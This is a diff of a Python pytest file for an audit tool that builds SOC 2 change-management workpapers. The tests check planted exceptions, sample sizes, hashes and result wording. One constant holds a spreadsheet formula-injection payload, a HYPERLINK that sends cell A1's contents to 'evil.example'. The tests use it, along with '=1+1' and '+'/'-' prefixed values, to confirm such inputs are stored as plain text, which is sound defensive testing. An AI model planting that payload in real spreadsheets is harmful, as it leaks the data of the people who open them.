@@ -1,9 +1,11 @@
 """The control workpaper and the engagement summary, written from the real stages on the demo engagement.
 
 Expected values come from outside the code under test: the planted exceptions listed in
-``sample_data/README.md`` (acme-type2 / changes), the file's own bytes (SHA-256), the AICPA Audit Sampling
-guide's Table A-1 (10 % risk of overreliance, 10 % tolerable rate, 0 expected deviations: 22 items), and
-results recorded here in the results store.
+``sample_data/README.md`` (acme-type2 / changes; CM-01 tests the standard and normal changes, so the three
+emergency changes among them are CM-03's), the raw export read with the csv module (counts, change types, key
+set), the file's own bytes (SHA-256), the AICPA Audit Sampling guide's Table A-1 (10 % risk of overreliance,
+10 % tolerable rate, 0 expected deviations: 22 items), and results and judgements recorded here in the results
+store.
 """
 
 from __future__ import annotations
@@ -17,20 +19,26 @@ from pathlib import Path
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from conftest import copy_engagement, run_stages
+from conftest import (agree_to_source, copy_engagement, raw_changes, raw_in_scope,
+                      record_walkthrough_of, run_stages)
 from conftest import write_stages as write
+from workbench.judgements import evaluate_exception
 from workbench.results import ResultsStore
 from workbench.workpaper import read_summary, write_summary
 from workbench.workpaper.layout import save_atomically
 from workbench.workpaper.sheets import SHEETS, TICKMARKS
 
 # sample_data/README.md, "acme-type2 / changes": planted exception ids per CM-01 attribute.
-PLANTED = {
+README_PLANTED = {
     "ticket_before_deployment": {"CHG-2151", "CHG-2359"},
     "approved_before_deployment": {"CHG-1458", "CHG-1496", "CHG-1597", "CHG-1705", "CHG-2060", "CHG-2151",
                                    "CHG-2207", "CHG-2319", "CHG-2359", "CHG-2536", "CHG-2538"},
     "approver_not_author": {"CHG-1153", "CHG-2220", "CHG-2319", "CHG-2411"},
 }
+#: The emergency changes among them (Custom field (Change type) = Emergency): CM-03's, not CM-01's.
+EMERGENCY = {"CHG-1705", "CHG-2060", "CHG-2538"}
+#: CM-01 tests the standard and normal changes: 11 distinct changes, 3 of them failing two attributes.
+PLANTED = {attribute: ids - EMERGENCY for attribute, ids in README_PLANTED.items()}
 ALL_PLANTED = set().union(*PLANTED.values())
 #: Section 4 deviation wording per attribute (workbench/procedures/change_management.py).
 WORDING = {
@@ -42,6 +50,17 @@ WORDING = {
 AICPA_SIZE = 22
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 CHANGES_FILE = "populations/jira_changes_FY26.csv"
+PERIOD = ("2025-07-01", "2026-06-30")
+RECORDS_TESTED = "standard and normal changes deployed during the period"
+#: The Section 4 result for CM-01: every planted deviation, the distinct count first, natures in attribute order.
+CM01_RESULT = (
+    f"For {len(ALL_PLANTED)} of 1,467 {RECORDS_TESTED}, a deviation was noted: "
+    f"{WORDING['ticket_before_deployment']} ({len(PLANTED['ticket_before_deployment'])}), "
+    f"{WORDING['approved_before_deployment']} ({len(PLANTED['approved_before_deployment'])}) and "
+    f"{WORDING['approver_not_author']} ({len(PLANTED['approver_not_author'])}); 3 of them had more than one of "
+    f"these deviations.")
+PENDING_EVALUATION = ("evaluate {count} exception(s) (type, isolated or systematic and why, root cause, compensating "
+                      "control, effect on the criteria, management's response)")
 
 
 # ---------------------------------------------------------------------------------------------------
@@ -99,14 +118,27 @@ def engagement_dir(tmp_path_factory, demo_type2) -> Path:
 
 @pytest.fixture(scope="module")
 def cm01(engagement_dir) -> dict:
-    """CM-01 with the first seed (1, 2, ...) whose sample holds at least one planted exception."""
+    """CM-01 with the first seed (1, 2, ...) whose sample holds at least one planted exception, its sample agreed
+    to source, its walkthrough recorded and the first planted exception in the sample evaluated (isolated)."""
     for seed in range(1, 400):
         stages = run_stages(engagement_dir, "CM-01", seed)
         if ALL_PLANTED & set(stages["selection"].keys):
             break
-    else:  # pragma: no cover - 22 of 1,500 with 14 planted: about one seed in five hits
+    else:  # pragma: no cover - 22 of 1,467 with 11 planted: about one seed in seven hits
         raise AssertionError("no seed below 400 samples a planted exception")
+    keys = stages["selection"].keys
+    engagement = stages["engagement"]
+    agree_to_source(engagement, "CM-01", keys)
+    record_walkthrough_of(engagement, "CM-01", instance=keys[0])
+    evaluated = next(k for k in keys if k in ALL_PLANTED)
+    evaluate_exception(engagement, "CM-01", evaluated, by="DR", type="operating", extent="isolated",
+                       why="approved the next morning; no other late approval by this approver",
+                       root_cause="the approver was travelling", effect_on_criteria="none: reviewed after deployment",
+                       management_response="Approvals are now delegated during travel.")
+    stages = run_stages(engagement_dir, "CM-01")   # the seed chosen above stays recorded for the sample
+    assert stages["selection"].keys == keys
     stages["seed"] = seed
+    stages["evaluated"] = evaluated
     stages["path"] = write(stages, engagement_dir / "output")
     stages["book"] = load_workbook(stages["path"])
     return stages
@@ -114,7 +146,8 @@ def cm01(engagement_dir) -> dict:
 
 @pytest.fixture(scope="module")
 def cm02(engagement_dir) -> dict:
-    """CM-02 written twice: before any manual result (in progress), then with results recorded."""
+    """CM-02 written twice: before any manual result (in progress), then with results and the walkthrough
+    recorded (its two exceptions pending evaluation)."""
     before = run_stages(engagement_dir, "CM-02")
     out = engagement_dir / "output"
     first = write(before, out)
@@ -129,6 +162,7 @@ def cm02(engagement_dir) -> dict:
             else:
                 store.record("CM-02", key, "testing_evidenced", "pass", tested_by="DR",
                              evidence_ref=f"EV-{number:03d}", comment=None)
+    record_walkthrough_of(before["engagement"], "CM-02", instance=keys[0])
     after = run_stages(engagement_dir, "CM-02")
     assert after["selection"].keys == keys
     second = write(after, out)
@@ -165,30 +199,52 @@ def test_header_block_on_every_sheet(cm01):
         assert ws["A2"].font.b and ws["A1"].font.b
 
 
-def test_lead_sheet_sample_size_deviations_and_result_text(cm01):
+def data_rows(path: Path) -> int:
+    with path.open(newline="", encoding="utf-8-sig") as handle:
+        return sum(1 for row in csv.reader(handle) if any(row)) - 1
+
+
+def test_lead_sheet_sample_size_deviations_and_result_text(cm01, engagement_dir):
     ws = cm01["book"]["Lead"]
     sampled = set(cm01["selection"].keys)
     deviating = ALL_PLANTED & sampled
+    in_scope = len(raw_in_scope(engagement_dir, *PERIOD))
+    assert in_scope == 1467
     assert value_of(ws, "Control ID") == "CM-01"
     assert value_of(ws, "Criteria") == "CC8.1"
     assert value_of(ws, "Control owner") == "Priya Shah"
     assert value_of(ws, "Frequency") == "as_needed"
     assert value_of(ws, "Nature") == "manual"
+    assert value_of(ws, "Records tested") == f"{RECORDS_TESTED} (record filter change_type in standard, normal)"
+    assert value_of(ws, "Records received") == data_rows(engagement_dir / CHANGES_FILE)
+    assert value_of(ws, "In scope") == in_scope
+    assert value_of(ws, "Excluded") == data_rows(engagement_dir / CHANGES_FILE) - in_scope
+    assert value_of(ws, "Sample") == "changes[change_type in standard, normal] (shared with CM-02)"
     assert value_of(ws, "Sample size") == AICPA_SIZE
-    assert value_of(ws, "Deviations") == len(deviating)
     assert value_of(ws, "Items tested") == AICPA_SIZE
-    assert value_of(ws, "Full-population exceptions") == len(ALL_PLANTED)
+    assert value_of(ws, "Deviations in the sample") == len(deviating)
+    assert value_of(ws, "Full-population exceptions") == len(ALL_PLANTED) == 11
+    assert value_of(ws, "Items with a deviation (distinct)") == len(ALL_PLANTED)
+    assert value_of(ws, "Exceptions evaluated") == f"1 of {len(ALL_PLANTED)}"
+    # the result states the distinct count of what was tested, never opening with "No exceptions noted"
     result = value_of(ws, "Proposed Section 4 result")
-    expected_sentences = [
-        f"For {len(PLANTED[a] & sampled)} of {AICPA_SIZE} sampled changes, {WORDING[a]}."
-        for a in ("ticket_before_deployment", "approved_before_deployment", "approver_not_author")
-        if PLANTED[a] & sampled]
-    assert result.startswith(" ".join(expected_sentences) + " Full-population analysis of 1,500 changes: ")
+    assert result == CM01_RESULT == (
+        "For 11 of 1,467 standard and normal changes deployed during the period, a deviation was noted: the change "
+        "was not documented in a ticket before deployment (2), approval was not documented before deployment (8) "
+        "and the change was not approved by someone other than its author (4); 3 of them had more than one of "
+        "these deviations.")
     assert result == cm01["evaluation"].result_text
-    assert value_of(ws, "Status") == "exceptions"
+    assert value_of(ws, "Proposed by the tool") == "Exceptions noted, evaluation pending"
+    assert value_of(ws, "Conclusion", start=value_row(ws, "Conclusion") + 1) == (
+        "Exceptions noted, evaluation pending (proposed; not recorded yet)")
+    assert value_of(ws, "Pending 1") == PENDING_EVALUATION.format(count=len(ALL_PLANTED) - 1)
     assert value_of(ws, "Test objective").startswith("To determine that the change was documented in a ticket")
-    assert value_of(ws, "Test performed").startswith(
-        f"Inspected the change ticket for a sample of {AICPA_SIZE} production changes deployed during the period")
+    assert value_of(ws, "Test performed") == (
+        "Compared the ticket creation time of each change with its deployment time, the approval time of each "
+        "change with its deployment time and the approver of each change with its author for all 1,467 standard "
+        "and normal changes deployed during the period (full-population analysis). Inspected the change ticket "
+        f"for a sample of {AICPA_SIZE} of them to determine that the exported change data agreed with the ticket "
+        "history and deployment record.")
     signoff = table_after(ws, "Role")
     assert [(r["Role"], r["Name"], r["Initials"], r["Signed off (date)"]) for r in signoff] == [
         ("preparer", "Dana Reyes", "DR", None), ("preparer", "Jamie Okoro", "JO", None),
@@ -201,15 +257,18 @@ def test_population_sheet_hash_source_and_receipt(cm01, engagement_dir):
     path = engagement_dir / CHANGES_FILE
     assert value_of(ws, "SHA-256") == hashlib.sha256(path.read_bytes()).hexdigest()
     assert value_of(ws, "Source file") == CHANGES_FILE
-    with path.open(newline="", encoding="utf-8-sig") as handle:
-        data_rows = sum(1 for row in csv.reader(handle) if any(row)) - 1
-    assert value_of(ws, "Records received") == data_rows
+    assert value_of(ws, "Records received") == data_rows(path)
     provider = cell_of(ws, "Provided by")
     assert provider.value == PAYLOAD and provider.data_type == "s"
     received = cell_of(ws, "Received")
     assert received.is_date and received.value == dt.datetime(2026, 7, 10)
     assert value_of(ws, "Request") == "PBC-07"
-    assert value_of(ws, "In scope") == 1500
+    # the control's record filter: standard and normal changes; the emergency ones are left to CM-03
+    emergency = raw_in_scope(engagement_dir, *PERIOD, types=("Emergency",))
+    assert EMERGENCY <= emergency and len(emergency) == 33
+    assert value_of(ws, "Record filter") == "change_type in standard, normal (the records this control tests)"
+    assert value_of(ws, "In scope") == len(raw_in_scope(engagement_dir, *PERIOD)) == 1467
+    assert value_of(ws, "Excluded: change_type not standard or normal") == len(emergency)
     assert value_of(ws, "Months with no records") == "none"
     assert value_of(ws, "Usable for sampling") == "yes"
     findings = table_after(ws, "Rule", start=value_row(ws, "Findings (one row each):"))
@@ -219,8 +278,14 @@ def test_population_sheet_hash_source_and_receipt(cm01, engagement_dir):
     assert [f["Severity"] for f in findings] == list(expected["severity"])
     assert [f["Message"] for f in findings] == list(expected["message"])
     excluded = table_after(ws, "Change id")
-    assert len(excluded) == len(cm01["scoped"].excluded) == 60
-    assert {r["Reason"] for r in excluded} == {"deployed_at before 2025-07-01", "deployed_at after 2026-06-30"}
+    assert len(excluded) == len(cm01["scope"].parts[0].excluded) == 30 + 30 + len(emergency)
+    assert {r["Reason"] for r in excluded} == {"deployed_at before 2025-07-01", "deployed_at after 2026-06-30",
+                                               "change_type not standard or normal: not tested by this control"}
+    assert {r["Change id"] for r in excluded
+            if r["Reason"] == "change_type not standard or normal: not tested by this control"} == emergency
+    # the sample as evidence of the export: every sampled change agreed to its ticket
+    assert value_of(ws, "Sampled items agreed") == f"{AICPA_SIZE} of {AICPA_SIZE} tested ({AICPA_SIZE} selected)"
+    assert value_of(ws, "Population data relied on") == "yes"
 
 
 def value_row(ws, label: str) -> int:
@@ -230,17 +295,21 @@ def value_row(ws, label: str) -> int:
     raise AssertionError(f"{ws.title}: no row {label!r}")
 
 
-def test_sampling_sheet_lists_exactly_the_selection(cm01):
+def test_sampling_sheet_lists_exactly_the_selection(cm01, engagement_dir):
     ws = cm01["book"]["Sampling"]
     selection = cm01["selection"]
     items = table_after(ws, "Sample #")
     assert [r["Change id"] for r in items] == list(selection.keys)
     assert [r["Sample #"] for r in items] == list(range(1, AICPA_SIZE + 1))
-    assert value_of(ws, "Seed") == cm01["seed"]
+    seed = value_of(ws, "Seed")
+    assert seed.startswith(f"{cm01['seed']} (chosen by DR on ") and seed.endswith(": chosen by the test)")
+    assert value_of(ws, "Sample", start=value_row(ws, "Sample size and why")) == \
+        "changes[change_type in standard, normal]"
+    assert value_of(ws, "Shared with") == "CM-02"
     assert value_of(ws, "Selection method") == "stratified"
     assert value_of(ws, "Sampling model") == "binomial"
-    # the key-set hash re-derived here from the keys in scope (sorted distinct keys, each + "\n")
-    keys = sorted(set(cm01["scoped"].frame["change_id"].astype(str)))
+    # the key-set hash re-derived here from the raw export's standard and normal changes in the period
+    keys = sorted(raw_in_scope(engagement_dir, *PERIOD))
     digest = hashlib.sha256("".join(k + "\n" for k in keys).encode("utf-8")).hexdigest()
     assert value_of(ws, "Population key-set SHA-256") == digest
     assert value_of(ws, "Algorithm").startswith("Stratified selection")
@@ -257,37 +326,63 @@ def test_testing_matrix_tickmarks_match_the_planted_exceptions(cm01):
               "approver_not_author": "Approver not author (automated)"}
     for r in rows:
         for attribute, heading in labels.items():
-            expected = "X" if r["Change id"] in PLANTED[attribute] else "✓"
+            # an automated pass is recomputed from the population data (R), not agreed to evidence
+            expected = "X" if r["Change id"] in PLANTED[attribute] else "R"
             assert r[heading] == expected, (r["Change id"], attribute)
+        assert r["Agreed to source (manual, accuracy)"] == "✓"   # agreed to the ticket history by DR
         assert r["Deviation"] == ("yes" if r["Change id"] in ALL_PLANTED else "no")
+        assert r["Tested by"] == "DR"
     header_row = value_row(ws, "Sample #")
     assert ws.freeze_panes == f"C{header_row + 1}"
-    legend = {r["Tickmark"] for r in table_after(cm01["book"]["Legend"], "Tickmark")}
-    assert legend == {"✓", "X"}
+    legend = {r["Tickmark"]: r["Meaning"] for r in table_after(cm01["book"]["Legend"], "Tickmark")}
+    assert legend == dict([TICKMARKS["recomputed"], TICKMARKS["agreed"], TICKMARKS["fail"]])
+    assert set(legend) == {"R", "✓", "X"}
 
 
-def test_exceptions_sheet_names_the_planted_ids_in_the_sample(cm01):
+def test_exceptions_sheet_lists_every_planted_id_with_its_evaluation(cm01):
     ws = cm01["book"]["Exceptions"]
-    sampled = set(cm01["selection"].keys)
-    in_sample = table_after(ws, "Sample #")
-    got = {(r["Item"], r["Attribute"].split("(")[-1].rstrip(")")) for r in in_sample}
-    expected = {(item, a) for a, ids in PLANTED.items() for item in ids & sampled}
-    assert got == expected and expected
-    for r in in_sample:
-        assert r["Sample #"] == cm01["selection"].keys.index(r["Item"]) + 1
-    population = table_after(ws, "Item")
-    got_population = {(r["Item"], r["Attribute"].split("(")[-1].rstrip(")")) for r in population}
-    assert got_population == {(item, a) for a, ids in PLANTED.items() for item in ids}
-    assert {r["Item"] for r in population if r["In sample"] == "yes"} == ALL_PLANTED & sampled
+    sampled = cm01["selection"].keys
+    assert value_of(ws, "Items with a deviation") == f"{len(ALL_PLANTED)} of 1,467 {RECORDS_TESTED}"
+    assert value_of(ws, "Evaluated") == f"1; pending {len(ALL_PLANTED) - 1}"
+    rows = table_after(ws, "Item")
+    got = {(r["Item"], r["Attribute"].split("(")[-1].rstrip(")")) for r in rows}
+    assert got == {(item, a) for a, ids in PLANTED.items() for item in ids}
+    assert len(rows) == sum(len(ids) for ids in PLANTED.values()) == 14   # one row per item and attribute
+    assert {r["Found by"] for r in rows} == {"full-population analysis"}
+    for r in rows:
+        assert r["Sample #"] == (sampled.index(r["Item"]) + 1 if r["Item"] in sampled else None)
+        if r["Item"] == cm01["evaluated"]:
+            assert (r["Type"], r["Isolated or systematic"], r["Root cause"]) == (
+                "operating", "isolated: approved the next morning; no other late approval by this approver",
+                "the approver was travelling")
+            assert r["Compensating control"] == "none recorded"
+            assert r["Management's response (Section 5, unaudited)"] == "Approvals are now delegated during travel."
+            assert r["Evaluated by"].startswith("DR on ")
+        else:
+            assert (r["Type"], r["Evaluated by"]) == ("pending", None)
 
 
-def test_evaluation_sheet_shows_the_statistical_evaluation(cm01):
+def test_evaluation_sheet_shows_the_walkthrough_and_no_statistics_for_the_census(cm01):
     ws = cm01["book"]["Evaluation"]
-    evaluation = cm01["evaluation"].evaluation
+    keys = cm01["selection"].keys
+    assert value_of(ws, "Instance walked through") == keys[0]
+    assert value_of(ws, "Inquiry of") == "Priya Shah, Release Manager on 2026-07-14"
+    assert value_of(ws, "Design evaluation") == "suitably designed"
+    assert value_of(ws, "Recorded by").startswith("DR on ")
+    # every attribute of CM-01 was computed for all 1,467 changes: known deviations, not a sample to evaluate
+    assert cm01["evaluation"].evaluation is None
+    assert value_of(ws, "Statistical evaluation performed") == "no"
+    assert value_of(ws, "Distinct items with a deviation") == len(ALL_PLANTED)
+    assert value_of(ws, "Proposed conclusion") == "Exceptions noted, evaluation pending"
+
+
+def test_evaluation_sheet_shows_the_statistical_evaluation_of_what_only_the_sample_tested(cm02):
+    ws = cm02["book"]["Evaluation"]
+    evaluation = cm02["after"]["evaluation"].evaluation
     assert evaluation is not None
     assert value_of(ws, "Statistical evaluation performed") == "yes"
     assert value_of(ws, "Sample size") == AICPA_SIZE
-    assert value_of(ws, "Deviations found") == cm01["evaluation"].deviations
+    assert value_of(ws, "Deviations found") == cm02["after"]["evaluation"].deviations == 2
     assert value_of(ws, "Upper deviation limit (exact)") == dict(evaluation.to_table())["Upper deviation limit (exact)"]
     assert value_of(ws, "Upper deviation limit (rounded up to 0.1 %, as the AICPA tables)") == \
         dict(evaluation.to_table())["Upper deviation limit (rounded up to 0.1 %, as the AICPA tables)"]
@@ -312,25 +407,27 @@ def test_manual_attribute_in_progress_reads_not_tested(cm02):
     book = cm02["in_progress"]
     lead = book["Lead"]
     assert value_of(lead, "Proposed Section 4 result") == f"Testing in progress (0 of {AICPA_SIZE} items tested)."
-    assert value_of(lead, "Status") == "in_progress"
+    assert value_of(lead, "Proposed by the tool") == "Testing in progress"
     rows = table_after(book["Testing"], "Sample #")
     assert {r["Testing evidenced (manual)"] for r in rows} == {"NT"}
     assert {r["Deviation"] for r in rows} == {"pending"}
     legend = table_after(book["Legend"], "Tickmark")
     assert [(r["Tickmark"], r["Meaning"]) for r in legend] == [TICKMARKS["not tested"]]
-    assert table_after(book["Exceptions"], "Sample #") == [
-        {"Sample #": "None: no sampled item deviated.", "Item": None, "Date": None, "Attribute": None,
-         "Description": None, "Reason": None, "Evidence ref": None, "Root cause (preparer)": None,
-         "Isolated or systematic (preparer)": None}]
+    assert table_after(book["Exceptions"], "Item") == [
+        {"Item": "None: no item deviated.", "Found by": None, "Sample #": None, "Date": None, "Attribute": None,
+         "Description": None, "Reason": None, "Evidence ref": None, "Type": None, "Isolated or systematic": None,
+         "Root cause": None, "Compensating control": None, "Effect on the criteria": None,
+         "Management's response (Section 5, unaudited)": None, "Evaluated by": None}]
 
 
 def test_recorded_results_reach_the_workpaper_as_literal_text(cm02):
     book = cm02["book"]
     keys = cm02["after"]["selection"].keys
     lead = book["Lead"]
-    assert value_of(lead, "Deviations") == 2
+    assert value_of(lead, "Deviations in the sample") == 2
     assert value_of(lead, "Proposed Section 4 result") == (
         f"For 2 of {AICPA_SIZE} sampled changes, testing before deployment was not evidenced.")
+    assert value_of(lead, "Proposed by the tool") == "Exceptions noted, evaluation pending"
     testing = book["Testing"]
     rows = table_after(testing, "Sample #")
     for r in rows:
@@ -340,9 +437,10 @@ def test_recorded_results_reach_the_workpaper_as_literal_text(cm02):
     payload_row = next(r for r in rows if r["Change id"] == keys[3])
     assert payload_row["Comment"] == f"testing_evidenced: {PAYLOAD}"
     assert payload_row["Evidence ref"] == "+EV-004"
-    exceptions = table_after(book["Exceptions"], "Sample #")
-    assert [(r["Sample #"], r["Item"], r["Reason"], r["Evidence ref"]) for r in exceptions] == [
-        (4, keys[3], PAYLOAD, "+EV-004"), (11, keys[10], "-no CI run linked", "+EV-011")]
+    exceptions = table_after(book["Exceptions"], "Item")
+    assert [(r["Item"], r["Found by"], r["Sample #"], r["Reason"], r["Evidence ref"], r["Type"])
+            for r in exceptions] == [(keys[3], "sample", 4, PAYLOAD, "+EV-004", "pending"),
+                                     (keys[10], "sample", 11, "-no CI run linked", "+EV-011", "pending")]
     for ws in (testing, book["Exceptions"]):
         for line in ws.iter_rows():
             for cell in line:
@@ -367,9 +465,19 @@ def test_type1_workpaper_shows_the_as_of_date_and_one_instance(tmp_path, demo_ty
         assert ws["B3"].value == "ACME-SOC2-T1-FY26 — SOC 2 Type 1"
     lead = book["Lead"]
     assert value_of(lead, "Sample size") == 1  # Type 1: one instance (walkthrough)
-    assert value_of(lead, "Proposed Section 4 result") == stages["evaluation"].result_text
+    # a Type 1 report gives no results of tests
+    assert stages["evaluation"].result_text == ""
+    assert value_of(lead, "Section 4") == ("A Type 1 report gives no results of tests; the design and implementation "
+                                           "conclusion is pending.")
+    assert "Proposed Section 4 result" not in {c.value for c in lead["A"]}
     assert value_of(book["Evaluation"], "Statistical evaluation performed") == "no"
     assert [r["Change id"] for r in table_after(book["Sampling"], "Sample #")] == list(stages["selection"].keys)
+    # the export starts after the 90-day look-back window begins: the population sheet says how much it covers
+    first = min(c["deployed"] for c in raw_changes(folder)).date()
+    covered = (dt.date(2026, 7, 1) - first).days
+    assert value_of(book["Population"], "Export covers") == (
+        f"the export holds records from {first} only: it covers {covered} of the 90 days of the window used to "
+        f"choose the as-of instance")
 
 
 def test_not_occurring_control_reads_a_recorded_zero(tmp_path, demo_type2):
@@ -383,7 +491,7 @@ def test_not_occurring_control_reads_a_recorded_zero(tmp_path, demo_type2):
     lead = book["Lead"]
     assert value_of(lead, "In scope") == 0
     assert value_of(lead, "Sample size") == 0
-    assert value_of(lead, "Status") == "not_occurring"
+    assert value_of(lead, "Proposed by the tool") == "Not occurring"
     assert value_of(lead, "Proposed Section 4 result").startswith(
         "The circumstances that warrant the operation of the control did not occur during the period")
     assert table_after(book["Sampling"], "Sample #")[0]["Sample #"] == "No items selected."
@@ -446,13 +554,21 @@ def test_summary_has_one_row_per_control_in_natural_order(summary, cm01, cm02):
     by_id = {r["control_id"]: r for r in records}
     cm01_record = cm01["evaluation"].to_record()
     assert by_id["CM-01"]["sample_size"] == AICPA_SIZE
+    assert by_id["CM-01"]["population_count"] == 1467
     assert by_id["CM-01"]["deviations"] == len(ALL_PLANTED & set(cm01["selection"].keys))
-    assert by_id["CM-01"]["result_text"] == cm01_record["result_text"]
-    assert by_id["CM-01"]["status"] == "exceptions"
+    # the deviation columns agree with the Exceptions sheet: every distinct item, and those not evaluated
+    assert by_id["CM-01"]["exceptions_distinct"] == len(ALL_PLANTED) == 11
+    assert by_id["CM-01"]["unevaluated"] == len(ALL_PLANTED) - 1
+    assert by_id["CM-01"]["result_text"] == cm01_record["result_text"] == CM01_RESULT
+    assert by_id["CM-01"]["status"] == "evaluation_pending"
+    assert by_id["CM-01"]["pending"] == PENDING_EVALUATION.format(count=len(ALL_PLANTED) - 1)
     assert by_id["CM-01"]["criteria"] == "CC8.1"
     assert by_id["CM-01"]["test_performed"] == cm01_record["test_performed"]
     assert by_id["CM-02"]["result_text"] == (
         f"For 2 of {AICPA_SIZE} sampled changes, testing before deployment was not evidenced.")
+    assert (by_id["CM-02"]["deviations"], by_id["CM-02"]["exceptions_distinct"], by_id["CM-02"]["unevaluated"]) == (
+        2, 2, 2)
+    assert by_id["CM-10"]["conclusion_text"] == "Not yet tested."
     assert by_id["AC-01"]["criteria"] == "CC6.2; CC6.3"
     assert by_id["AC-01"]["result_text"] == "Not yet tested."
     assert by_id["AC-01"]["sample_size"] is None
@@ -466,8 +582,9 @@ def test_summary_cells_are_safe_and_the_layout_is_fixed(summary):
     assert ws["A9"].value == "Control ID" and ws["A9"].font.b
     assert ws.freeze_panes == "A10"
     assert ws["B5"].value == "ACME-SOC2-T2-FY26/summary"
+    assert ws.cell(row=9, column=10).value == "Result"
     failed = next(r for r in range(10, ws.max_row + 1) if ws.cell(row=r, column=1).value == "CM-03")
-    cell = ws.cell(row=failed, column=9)
+    cell = ws.cell(row=failed, column=10)
     assert cell.value == "Notebook failed: =1+1 is not a valid seed" and cell.data_type == "s"
 
 
